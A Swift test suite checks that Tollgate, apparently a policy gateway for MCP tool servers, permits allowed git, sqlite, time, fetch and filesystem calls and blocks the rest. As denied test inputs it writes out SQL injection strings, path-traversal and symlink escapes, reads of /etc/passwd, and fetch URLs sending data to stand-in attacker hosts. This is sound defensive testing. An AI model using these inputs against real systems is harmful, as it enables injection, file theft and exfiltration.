import Foundation
import Testing

/// Each shipped manifest in manifests/, used as it is (its variables set in the environment), in
/// front of its REAL server, driven by the official Python SDK: what the manifest allows works,
/// what it denies is denied by Tollgate and leaves no trace.
@Suite("Shipped manifests against real servers", .timeLimit(.minutes(2)))
struct ManifestsTests {
    /// tollgate's command line in front of `server` with `manifest`.
    private func gated(_ manifest: String, _ server: [String]) throws -> [String] {
        [try TollgateBinary.path(), "run", "--manifest", manifest, "--"] + server
    }

    /// A folder holding stand-ins for the launchers the shipped manifests name (`uvx`, `npx`), so
    /// `check` finds them on PATH as it would on a machine that has them.
    private func launchers() throws -> TemporaryDirectory {
        let directory = try TemporaryDirectory("launchers")
        for name in ["uvx", "npx"] { try FileManager.default.createSymbolicLink(atPath: directory.path(name), withDestinationPath: "/bin/true") }
        return directory
    }

    @Test("tollgate check passes on every shipped manifest, without a warning once its variables are set and its launcher is on PATH")
    func checkShippedManifests() async throws {
        let manifests = try ShippedManifests.all()
        #expect(manifests.count == 5, "manifests/: \(manifests)")
        let launchers = try launchers()
        let folder = try TemporaryDirectory("shipped-variables")
        let path = launchers.path + ":" + (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin")
        // The sqlite manifest's sandbox may read the database: it must exist.
        _ = FileManager.default.createFile(atPath: folder.path("legacy.db"), contents: nil)
        let environment: [String: String?] = ["PATH": path, "REPO": folder.path, "SQLITE_DB": folder.path("legacy.db"), "WORKSPACE": folder.path]
        for manifest in manifests {
            let output = try await runTollgate(["check", "--strict", manifest], environment: environment)
            #expect(output.status == 0, "tollgate check --strict \(manifest) exited \(output.status): \(output.stderr)")
            let lines = output.stdoutText.split(separator: "\n")
            #expect(lines.count == 1 && lines.first?.hasPrefix("\(manifest): OK: default deny, enforce mode;") == true,
                    "summary of \(manifest): \(output.stdoutText)")
            #expect(output.stderr.isEmpty, "check of \(manifest) wrote to stderr: \(output.stderr)")
        }
    }

    @Test("a shipped manifest whose variable is not set: check warns naming it (--strict fails), run refuses to start")
    func shippedManifestVariableUnset() async throws {
        let git = ShippedManifests.directory + "/mcp-server-git.json"
        let launchers = try launchers()
        let environment: [String: String?] = ["REPO": nil, "PATH": launchers.path + ":" + (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin")]
        let check = try await runTollgate(["check", git], environment: environment)
        #expect(check.status == 0, "\(check.stderr)")
        let warnings = check.stderr.split(separator: "\n")
        #expect(warnings.count == 9 && warnings.allSatisfy { $0.contains("${REPO} is not set") },
                "the args, the sandbox's write path and the seven pathWithin lists: \(check.stderr)")
        #expect(try await runTollgate(["check", "--strict", git], environment: environment).status == 1)
        let run = try await runTollgate(["run", "--manifest", git], environment: environment)
        #expect(run.status == 2 && run.stderr.contains("\(git):24:"), "\(run.stderr)")
    }

    // MARK: - mcp-server-git

    /// HEAD, the log, the status (index + working tree) and what is staged in `repo`.
    private func repositoryState(_ repo: String) async throws -> [String] {
        [try await git(["rev-parse", "HEAD"], in: repo),
         try await git(["log", "--format=%H %s"], in: repo),
         try await git(["status", "--porcelain=v1", "--untracked-files=all"], in: repo),
         try await git(["diff", "--cached", "--name-only"], in: repo)]
    }

    @Test("mcp-server-git: status and log allowed; commit and add denied; the repository unchanged")
    func gitServer() async throws {
        let python = try await PythonEnvironment.python()
        let directory = try TemporaryDirectory("manifest-git")
        let repo = try await makeRepository(in: directory)
        // Something git_add could stage and git_commit could commit.
        try writeFile("new\n", named: "repo/new.txt", in: directory)
        try writeFile("hello, changed\n", named: "repo/README.md", in: directory)
        let before = try await repositoryState(repo)

        // The shipped file as it is: REPO names the repository.
        let manifest = ShippedManifests.directory + "/mcp-server-git.json"
        let script: [[String: Any]] = [
            ["op": "list_tools"],
            ["op": "call_tool", "name": "git_status", "arguments": ["repo_path": repo]],
            ["op": "call_tool", "name": "git_log", "arguments": ["repo_path": repo, "max_count": 5]],
            ["op": "call_tool", "name": "git_add", "arguments": ["repo_path": repo, "files": ["new.txt", "README.md"]]],
            ["op": "call_tool", "name": "git_commit", "arguments": ["repo_path": repo, "message": "sneaky commit"]],
            ["op": "call_tool", "name": "git_status", "arguments": ["repo_path": directory.path]],
            ["op": "call_tool", "name": "git_log", "arguments": ["repo_path": repo, "max_count": 1000]],
        ]
        let report = try await SDKClient.run(
            mode: "legacy", script: script,
            command: try gated(manifest, [python, "-m", "mcp_server_git", "--repository", repo]), environment: ["REPO": repo])
        let steps = try SDKClient.steps(report, count: 7)

        let tools = steps[0]["tools"].strings ?? []
        #expect(Set(tools) == ["git_status", "git_diff_unstaged", "git_diff_staged", "git_diff", "git_log", "git_show", "git_branch"],
                "the write tools must be hidden: \(tools)")
        expectSDKSuccess(steps[1], tool: "git_status", "git_status")
        #expect(steps[1]["text"].string?.contains("new.txt") == true, "git_status: \(steps[1])")
        expectSDKSuccess(steps[2], tool: "git_log", "git_log")
        #expect(steps[2]["text"].string?.contains("initial commit") == true && steps[2]["text"].string?.contains(before[0]) == true,
                "git_log: \(steps[2])")
        expectSDKDenial(steps[3], code: "tool_denied", tool: "git_add", rule: "tools.git_add", "git_add")
        expectSDKDenial(steps[4], code: "tool_denied", tool: "git_commit", rule: "tools.git_commit", "git_commit")
        // pathWithin: the directory above the repository is not the repository.
        expectSDKDenial(steps[5], code: "arguments_rejected", tool: "git_status", rule: "tools.git_status",
                        pointer: "/repo_path", keyword: "pathWithin", "git_status outside the repository")
        expectSDKDenial(steps[6], code: "arguments_rejected", tool: "git_log", rule: "tools.git_log",
                        pointer: "/max_count", keyword: "maximum", "git_log of 1000 commits")

        let after = try await repositoryState(repo)
        #expect(after == before, "the repository changed: before \(before), after \(after)")
        #expect(after[2].contains("?? new.txt") && after[3].isEmpty, "nothing may be staged: \(after[2]); staged: \(after[3])")
        #expect(after[1].split(separator: "\n").count == 1, "one commit only: \(after[1])")
    }

    @Test("mcp-server-git in the shipped sandbox with the policy off (--monitor): it commits in the repository, a write to another fails")
    func gitServerSandbox() async throws {
        let python = try await PythonEnvironment.python()
        let directory = try TemporaryDirectory("manifest-git-sandbox")
        let repo = try await makeRepository(in: directory)
        let other = directory.path("other")
        try FileManager.default.createDirectory(atPath: other, withIntermediateDirectories: false)
        try await git(["init", "-q"], in: other)
        try writeFile("inside\n", named: "repo/inside.txt", in: directory)
        try writeFile("outside\n", named: "other/outside.txt", in: directory)
        let manifest = ShippedManifests.directory + "/mcp-server-git.json"
        let script: [[String: Any]] = [
            ["op": "call_tool", "name": "git_add", "arguments": ["repo_path": repo, "files": ["inside.txt"]]],
            ["op": "call_tool", "name": "git_commit", "arguments": ["repo_path": repo, "message": "inside the sandbox"]],
            ["op": "call_tool", "name": "git_add", "arguments": ["repo_path": other, "files": ["outside.txt"]]],
        ]
        // No --repository: only the sandbox keeps the server out of the other repository.
        let server = [python, "-m", "mcp_server_git"]
        let environment: [String: String?] = ["REPO": repo, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t.invalid",
                                              "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t.invalid"]
        let report = try await SDKClient.run(mode: "legacy", script: script,
                                             command: [try TollgateBinary.path(), "run", "--monitor", "--manifest", manifest, "--"] + server,
                                             environment: environment)
        let steps = try SDKClient.steps(report, count: 3)
        expectSDKSuccess(steps[0], tool: "git_add", "git_add in the repository")
        expectSDKSuccess(steps[1], tool: "git_commit", "git_commit in the repository")
        #expect(try await git(["log", "--format=%s", "-1"], in: repo) == "inside the sandbox")
        #expect(steps[2]["isError"].bool == true, "git_add in another repository must fail: \(steps[2])")
        #expect(try await git(["diff", "--cached", "--name-only"], in: other).isEmpty, "nothing staged in the other repository")

        // Not vacuous: without the sandbox the same server stages the file there.
        let direct = try await SDKClient.run(mode: "legacy", script: [script[2]], command: server, environment: environment)
        expectSDKSuccess(try SDKClient.steps(direct, count: 1)[0], tool: "git_add", "without a sandbox")
        #expect(try await git(["diff", "--cached", "--name-only"], in: other) == "outside.txt")
    }

    // MARK: - mcp-server-sqlite

    /// The tables and the rows of `items`, read with Python's sqlite3 (not through any server).
    private func databaseState(_ python: String, _ database: String) async throws -> String {
        let output = try await Subprocess.run([python, "-c", """
            import json, sqlite3, sys
            c = sqlite3.connect(sys.argv[1])
            tables = [r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
            rows = [list(r) for r in c.execute("SELECT id, name FROM items ORDER BY id")]
            print(json.dumps({"tables": tables, "rows": rows}))
            """, database], timeout: .seconds(20))
        guard output.status == 0 else { throw E2EError("reading \(database) failed: \(output.stderr)") }
        return output.stdoutText.trimmingCharacters(in: .whitespacesAndNewlines)
    }

    @Test("mcp-server-sqlite: SELECT allowed and returns rows; writes denied; the table unchanged")
    func sqliteServer() async throws {
        let python = try await PythonEnvironment.python()
        let server = try await PythonEnvironment.sqliteServer()
        let directory = try TemporaryDirectory("manifest-sqlite")
        let database = directory.path("legacy.db")
        let create = try await Subprocess.run([python, "-c", """
            import sqlite3, sys
            c = sqlite3.connect(sys.argv[1])
            c.execute("CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL)")
            c.executemany("INSERT INTO items (name) VALUES (?)", [("apple",), ("pear",), ("quince",)])
            c.commit()
            """, database], timeout: .seconds(20))
        try #require(create.status == 0, "creating the database failed: \(create.stderr)")
        let before = try await databaseState(python, database)
        #expect(before == #"{"tables": ["items"], "rows": [[1, "apple"], [2, "pear"], [3, "quince"]]}"#, "\(before)")

        // The database goes on the command line, which replaces the manifest's server; the server runs
        // in that server's sandbox, which may read ${SQLITE_DB} only.
        let manifest = ShippedManifests.directory + "/mcp-server-sqlite.json"
        let script: [[String: Any]] = [
            ["op": "list_tools"],
            ["op": "call_tool", "name": "read_query", "arguments": ["query": "SELECT id, name FROM items ORDER BY id"]],
            ["op": "call_tool", "name": "write_query", "arguments": ["query": "DELETE FROM items"]],
            ["op": "call_tool", "name": "read_query", "arguments": ["query": "DELETE FROM items"]],
            ["op": "call_tool", "name": "read_query", "arguments": ["query": "SELECT * FROM items; DROP TABLE items"]],
            ["op": "call_tool", "name": "read_query", "arguments": ["query": "select name from items where id = 1"]],
            ["op": "call_tool", "name": "describe_table", "arguments": ["table_name": "items); DROP TABLE items; --"]],
            ["op": "call_tool", "name": "create_table", "arguments": ["query": "CREATE TABLE evil (x)"]],
            ["op": "call_tool", "name": "list_tables", "arguments": [String: Any]()],
            ["op": "call_tool", "name": "describe_table", "arguments": ["table_name": "items"]],
        ]
        let report = try await SDKClient.run(mode: "legacy", script: script, command: try gated(manifest, [server, "--db-path", database]),
                                             environment: ["SQLITE_DB": database])
        let steps = try SDKClient.steps(report, count: 10)

        #expect(Set(steps[0]["tools"].strings ?? []) == ["read_query", "list_tables", "describe_table"], "list_tools: \(steps[0])")
        expectSDKSuccess(steps[1], tool: "read_query", "SELECT")
        let rows = steps[1]["text"].string ?? ""
        #expect(rows.contains("apple") && rows.contains("pear") && rows.contains("quince"), "SELECT returned: \(steps[1])")
        expectSDKDenial(steps[2], code: "tool_denied", tool: "write_query", rule: "tools.write_query", "write_query")
        expectSDKDenial(steps[3], code: "arguments_rejected", tool: "read_query", rule: "tools.read_query",
                        pointer: "/query", keyword: "pattern", "read_query DELETE")
        expectSDKDenial(steps[4], code: "arguments_rejected", tool: "read_query", rule: "tools.read_query",
                        pointer: "/query", keyword: "not", "read_query SELECT …; DROP")
        expectSDKSuccess(steps[5], tool: "read_query", "lower-case select")
        #expect(steps[5]["text"].string?.contains("apple") == true, "\(steps[5])")
        expectSDKDenial(steps[6], code: "arguments_rejected", tool: "describe_table", rule: "tools.describe_table",
                        pointer: "/table_name", keyword: "pattern", "describe_table injection")
        expectSDKDenial(steps[7], code: "tool_denied", tool: "create_table", rule: "tools.create_table", "create_table")
        expectSDKSuccess(steps[8], tool: "list_tables", "list_tables")
        #expect(steps[8]["text"].string?.contains("items") == true, "\(steps[8])")
        expectSDKSuccess(steps[9], tool: "describe_table", "describe_table items")
        #expect(steps[9]["text"].string?.contains("name") == true, "\(steps[9])")

        let after = try await databaseState(python, database)
        #expect(after == before, "the database changed: before \(before), after \(after)")
    }

    // MARK: - mcp-server-time

    @Test("mcp-server-time: get_current_time allowed with a zone name, denied with anything else")
    func timeServer() async throws {
        let python = try await PythonEnvironment.python()
        let manifest = ShippedManifests.directory + "/mcp-server-time.json"
        let script: [[String: Any]] = [
            ["op": "list_tools"],
            ["op": "call_tool", "name": "get_current_time", "arguments": ["timezone": "Europe/Paris"]],
            ["op": "call_tool", "name": "get_current_time", "arguments": ["timezone": "Etc/GMT+5"]],
            ["op": "call_tool", "name": "get_current_time", "arguments": ["timezone": "../../etc/passwd"]],
            ["op": "call_tool", "name": "convert_time",
             "arguments": ["source_timezone": "UTC", "time": "25:00", "target_timezone": "Asia/Tokyo"]],
            ["op": "call_tool", "name": "convert_time",
             "arguments": ["source_timezone": "UTC", "time": "12:30", "target_timezone": "Asia/Tokyo"]],
        ]
        let report = try await SDKClient.run(mode: "legacy", script: script, command: try gated(manifest, [python, "-m", "mcp_server_time"]))
        let steps = try SDKClient.steps(report, count: 6)

        #expect(steps[0]["tools"].strings == ["get_current_time", "convert_time"], "list_tools: \(steps[0])")
        expectSDKSuccess(steps[1], tool: "get_current_time", "Europe/Paris")
        #expect(steps[1]["text"].string?.contains("Europe/Paris") == true, "\(steps[1])")
        expectSDKSuccess(steps[2], tool: "get_current_time", "Etc/GMT+5")
        expectSDKDenial(steps[3], code: "arguments_rejected", tool: "get_current_time", rule: "tools.get_current_time",
                        pointer: "/timezone", keyword: "pattern", "a path as a time zone")
        expectSDKDenial(steps[4], code: "arguments_rejected", tool: "convert_time", rule: "tools.convert_time",
                        pointer: "/time", keyword: "pattern", "25:00")
        expectSDKSuccess(steps[5], tool: "convert_time", "12:30 UTC to Tokyo")
        #expect(steps[5]["text"].string?.contains("21:30") == true, "12:30 UTC is 21:30 in Tokyo: \(steps[5])")
    }

    // MARK: - mcp-server-fetch

    @Test("mcp-server-fetch: a URL outside the host allowlist is denied (hostIn); an allowlisted one is not")
    func fetchServer() async throws {
        let python = try await PythonEnvironment.python()
        let manifest = ShippedManifests.directory + "/mcp-server-fetch.json"
        // No real fetch may happen. The denied URLs never reach the server. For the allowlisted URL
        // the call carries max_length 100.0: a whole number, so an "integer" to Tollgate (JSON
        // Schema) and it passes the gate, but the server's strict pydantic model refuses a float
        // before fetching anything. The server answering with that validation error (and no
        // denial) proves Tollgate forwarded the call. Belt and braces: --proxy-url points at a
        // closed local port, so even a fetch the server did attempt could not leave the machine
        // (only its private-address check might resolve the name).
        // Written by hand: JSONSerialization would print 100.0 as 100.
        let script = """
            [{"op":"list_tools"},
             {"op":"call_tool","name":"fetch","arguments":{"url":"https://evil.example.com/exfiltrate?data=1"}},
             {"op":"call_tool","name":"fetch","arguments":{"url":"https://wikipedia.org.evil.example/"}},
             {"op":"call_tool","name":"fetch","arguments":{"url":"https://docs.python.org@evil.example.com/"}},
             {"op":"call_tool","name":"fetch","arguments":{"url":"file:///etc/passwd"}},
             {"op":"call_tool","name":"fetch","arguments":{"url":"https://docs.python.org/3/","max_length":100.0}}]
            """
        let report = try await SDKClient.run(
            mode: "legacy", scriptJSON: script,
            command: try gated(manifest, [python, "-m", "mcp_server_fetch", "--proxy-url", "http://127.0.0.1:9"]))
        let steps = try SDKClient.steps(report, count: 6)

        #expect(steps[0]["tools"].strings == ["fetch"], "list_tools: \(steps[0])")
        for (index, what) in [(1, "a host not on the list"), (2, "a look-alike host"), (3, "an allowed host as user info"),
                              (4, "a file: URL")] {
            expectSDKDenial(steps[index], code: "arguments_rejected", tool: "fetch", rule: "tools.fetch",
                            pointer: "/url", keyword: "hostIn", what)
        }
        let allowed = steps[5]
        #expect(allowed["meta"]["dev.tollgate/denial"].exists == false && allowed["text"].string?.hasPrefix("Tollgate") == false,
                "Tollgate must not deny an allowlisted URL: \(allowed)")
        #expect(allowed["isError"].bool == true && allowed["text"].string?.contains("max_length") == true,
                "the server itself should refuse max_length 100.0 (strict int), without fetching: \(allowed)")
    }

    // MARK: - server-filesystem

    @Test("filesystem: write_file inside the workspace allowed; outside, .. and symlink escapes denied and nothing written")
    func filesystemServer() async throws {
        let directory = try TemporaryDirectory("manifest-fs")
        // The server may act anywhere under root; the manifest narrows writes to root/workspace.
        let root = directory.path("root")
        let workspace = root + "/workspace"
        let fileManager = FileManager.default
        try fileManager.createDirectory(atPath: workspace, withIntermediateDirectories: true)
        try fileManager.createDirectory(atPath: root + "/elsewhere", withIntermediateDirectories: true)
        try fileManager.createSymbolicLink(atPath: workspace + "/link", withDestinationPath: root + "/elsewhere")

        let manifest = ShippedManifests.directory + "/server-filesystem.json"
        let inside = workspace + "/note.txt"
        let script: [[String: Any]] = [
            ["op": "list_tools"],
            ["op": "call_tool", "name": "write_file", "arguments": ["path": inside, "content": "inside ✓"]],
            ["op": "call_tool", "name": "write_file", "arguments": ["path": root + "/outside.txt", "content": "x"]],
            ["op": "call_tool", "name": "write_file", "arguments": ["path": workspace + "/../escape.txt", "content": "x"]],
            ["op": "call_tool", "name": "write_file", "arguments": ["path": workspace + "/link/via-link.txt", "content": "x"]],
            ["op": "call_tool", "name": "write_file", "arguments": ["path": "workspace/relative.txt", "content": "x"]],
            ["op": "call_tool", "name": "read_text_file", "arguments": ["path": workspace + "/note.txt"]],
        ]
        // The stand-in is a Python program, not npx: it gets a Python sandbox of its own (the flags
        // replace the manifest's node sandbox): it may read its root and write the workspace.
        let python = try await PythonEnvironment.python()
        let sandbox = ["--sandbox", "python", "--read", Repository.fixtures, "--read", root, "--write", workspace]
        let report = try await SDKClient.run(
            mode: "legacy", script: script,
            command: [try TollgateBinary.path(), "run", "--manifest", manifest] + sandbox + ["--", python, Repository.fixtures + "/filesystem_fixture.py", root],
            environment: ["FIXTURE_QUIET": "1", "WORKSPACE": workspace])
        let steps = try SDKClient.steps(report, count: 7)

        #expect(steps[0]["tools"].strings?.count == 14, "every tool of the server is allowed: \(steps[0])")
        expectSDKSuccess(steps[1], tool: "write_file", "write inside the workspace")
        #expect(fileManager.contents(atPath: workspace + "/note.txt") == Data("inside ✓".utf8), "the file inside must exist")
        expectSDKDenial(steps[2], code: "arguments_rejected", tool: "write_file", rule: "tools.write_file",
                        pointer: "/path", keyword: "pathWithin", "write outside the workspace")
        expectSDKDenial(steps[3], code: "arguments_rejected", tool: "write_file", rule: "tools.write_file",
                        pointer: "/path", keyword: "pathWithin", "a .. escape")
        expectSDKDenial(steps[4], code: "arguments_rejected", tool: "write_file", rule: "tools.write_file",
                        pointer: "/path", keyword: "pathWithin", "a symlink escape")
        expectSDKDenial(steps[5], code: "arguments_rejected", tool: "write_file", rule: "tools.write_file",
                        pointer: "/path", keyword: "pattern", "a relative path")
        expectSDKSuccess(steps[6], tool: "read_text_file", "read back")
        #expect(steps[6]["text"].string == "inside ✓", "\(steps[6])")

        for path in [root + "/outside.txt", root + "/escape.txt", root + "/elsewhere/via-link.txt",
                     root + "/workspace/relative.txt", root + "/relative.txt"] {
            #expect(!fileManager.fileExists(atPath: path), "\(path) must not have been written")
        }
    }
}
